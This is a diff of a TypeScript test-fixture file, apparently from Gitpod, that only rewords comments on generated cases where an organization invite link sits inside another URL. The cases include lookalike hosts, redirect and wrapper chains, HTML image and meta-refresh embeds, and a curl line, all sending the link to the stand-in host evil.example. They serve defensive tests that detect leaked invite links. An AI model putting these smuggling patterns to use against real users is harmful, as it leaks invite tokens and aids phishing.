@@ -7,7 +7,10 @@ const editorOf = (link: InviteLink, scheme = 'vscode'): string =>
   `${scheme}://org-invites.gitpod-invites/join?inviteId=${link.inviteId}`;
 const redirectTo = (target: string, host = 'vscode.dev'): string => `https://${host}/redirect?url=${encode(target)}`;
 
-/** Texts with an invite link inside a URL that is none of its own, each with who gets to see it; `?` where that is not in the text. */
+/**
+ * Texts with an invite link inside another URL, each with the host or scheme that would receive it; `?` if that is not
+ * in the text.
+ */
 export function foreignTexts(link: InviteLink): readonly (readonly [text: string, receiver: string])[] {
   const { text: L, loginText, inviteId } = link;
   const http = L.replace('https', 'http');
@@ -35,11 +38,11 @@ export function foreignTexts(link: InviteLink): readonly (readonly [text: string
     [`{"link":"https:\\/\\/evil.example\\/go?u=${E}"}`, evil],
     [`https&#58;&#47;&#47;evil.example&#47;?u=${L}`, evil],
     [`url=https%3A%2F%2Fevil.example%2F%3Fu%3D${encode(E)}`, evil],
-    // A name that only looks like one of ours.
+    // A host that only looks like a known one.
     [`https://app.gitpod.io@evil.example/?u=${L}`, evil],
     [`https://app.gitpod.io.evil.example/?u=${L}`, 'app.gitpod.io.evil.example'],
     [`https://app.gitpod.io:x@evil.example/?u=${E}`, evil],
-    // Ours is outermost in neither case.
+    // The outermost URL is not an invite link in either case.
     [`https://app.gitpod.io/login?returnTo=${L}`, 'app.gitpod.io'],
     // Markup.
     [`![badge](https://evil.example/b.svg?link=${L})`, evil],
@@ -77,12 +80,12 @@ export function foreignTexts(link: InviteLink): readonly (readonly [text: string
     [`&lt;img src=&quot;https://evil.example/?u=${L}&quot;&gt;`, evil],
     [`<img srcset="https://evil.example/?u=${L} 2x">`, evil],
     [`<meta http-equiv="refresh" content="0;url=https://evil.example/?u=${L}">`, evil],
-    // Quoted-printable, and lines that go on.
+    // Quoted-printable, and continued lines.
     [`<img src=3D"https://evil.example/?u=3D${L}">`, evil],
     [`https://evil.example/?u=3D=\r\n${L}`, evil],
     [`https://evil.example/?u==\n${L}`, evil],
     [`curl https://evil.example/?u=\\\n${L}`, evil],
-    // Without a scheme, or with one of an app or of code.
+    // Without a scheme, or with the scheme of an app or of code.
     [`//evil.example/?u=${L}`, evil],
     [`(//evil.example/${L})`, evil],
     [`\\\\evil.example\\${L}`, evil],
@@ -109,12 +112,12 @@ export function foreignTexts(link: InviteLink): readonly (readonly [text: string
     [`evil${L}`, 'evilhttps:'],
     [`evil${E}`, 'evilhttps:'],
     [`evil${encode(E)}`, 'evilhttps:'],
-    // Not encrypted, and so not to be changed either.
+    // Unencrypted, and not to be changed to https either.
     [`https://evil.example/?u=${http}`, evil],
     [`https://evil.example/${http}`, evil],
     [`evil.example/?u=${encode(http)}`, evil],
     [`intent://scan/#Intent;S.u=${L};end`, 'intent:'],
-    // Editor links of apps that are no editor.
+    // Editor links with the scheme of an app that is no editor.
     [editorOf(link, 'evilapp'), 'evilapp:'],
     [editorOf(link, 'vscode-evil'), 'vscode-evil:'],
     [editorOf(link, 'evilvscode'), 'evilvscode:'],
@@ -122,7 +125,7 @@ export function foreignTexts(link: InviteLink): readonly (readonly [text: string
     [redirectTo(editorOf(link, 'evilapp')), 'vscode.dev'],
     [`https://evil.example/?u=${editor}`, evil],
     [`https://evil.example/?u=${encode(editor)}`, evil],
-    // Redirects that lead elsewhere, or are none.
+    // Redirects that lead elsewhere, or that are not redirects.
     [`https://evil.example/?u=${encode(redirectTo(editor))}`, evil],
     [redirectTo(`https://evil.example/?u=${E}`), 'vscode.dev'],
     [redirectTo(`https://evil.example/?u=${encode(redirectTo(editor))}`), 'vscode.dev'],
@@ -134,7 +137,7 @@ export function foreignTexts(link: InviteLink): readonly (readonly [text: string
     [redirectTo(editor, 'evil.example\\@vscode.dev'), evil],
     [redirectTo(editor, 'vscode.dev:8443'), 'vscode.dev:8443'],
     [redirectTo(editor).replace('https', 'http'), 'vscode.dev'],
-    // Wrappers that lead elsewhere, or are none.
+    // Wrappers that lead elsewhere, or that are not wrappers.
     [`https://www.google.com/url?q=${encode(`https://evil.example/?u=${E}`)}&sa=D`, 'www.google.com'],
     [`https://www.google.com/url?q=https://evil.example&u=${E}`, 'www.google.com'],
     [`https://www.google.com/url?q=${E}&url=${E}`, 'www.google.com'],
@@ -148,7 +151,7 @@ export function foreignTexts(link: InviteLink): readonly (readonly [text: string
     [`https://urldefense.com.evil.example/v3/__${L}__;!!A!B$`, 'urldefense.com.evil.example'],
     [`https://urldefense.com/v3/__https://evil.example/?u=${L}__;!!A!B$`, 'urldefense.com'],
     [`https://urldefense.com/v3/__https:**Aevil.example/?u=${L}__;Ly8!!A!B$`, 'urldefense.com'],
-    // After what no scheme has.
+    // After a character that cannot be part of a scheme.
     [`→evilapp:${L}`, 'evilapp:'],
     [`链接：evilapp:app.gitpod.io/join-organization/${inviteId}`, 'evilapp:'],
     // Escapes.
@@ -158,7 +161,7 @@ export function foreignTexts(link: InviteLink): readonly (readonly [text: string
     [`"https:\\u002F\\u002Fevil.example\\u002F?u\\u003d${L}"`, evil],
     [`https://evil.example/?u=${encode(`https://www.google.com/url?q=${E}`)}`, evil],
     [`https://evil.example/?u=https://www.google.com/url?q=${E}`, evil],
-    // Closing quotes and brackets after which the URL goes on.
+    // Closing quotes and brackets that do not end the URL.
     [`"https://evil.example/?u="${L}`, evil],
     [`(https://evil.example/?u=)${L}`, evil],
     [`(https://evil.example/?u=(a)${L})`, evil],
@@ -180,7 +183,7 @@ export function outermostTexts(link: InviteLink): readonly string[] {
     `see app.gitpod.io/join-organization/${inviteId}.`,
     encode(L),
     `HTTPS://APP.GITPOD.IO/join-organization/${inviteId}`,
-    // After whitespace, another URL has ended.
+    // Whitespace ends another URL.
     ...[
       `url=evil ${L}`,
       `url=https://evil.example ${L}`,
@@ -235,7 +238,7 @@ export function redirectTexts(link: InviteLink): readonly string[] {
   ];
 }
 
-/** Each with what is before and after the wrapper. */
+/** Each with the text before and after the wrapper. */
 export function wrapperTexts(link: InviteLink): readonly (readonly [string, string, string])[] {
   const { text: L, loginText } = link;
   const E = encode(L);
@@ -270,7 +273,7 @@ export function wrapperTexts(link: InviteLink): readonly (readonly [string, stri
   ];
 }
 
-/** Any text with a link that somebody else's URL holds, with anything but the end of that URL between. */
+/** Any text with a link inside another URL, with anything between them that does not end that URL. */
 export function enclosed(link: InviteLink): fc.Arbitrary<string> {
   const start = fc.constantFrom(
     '',
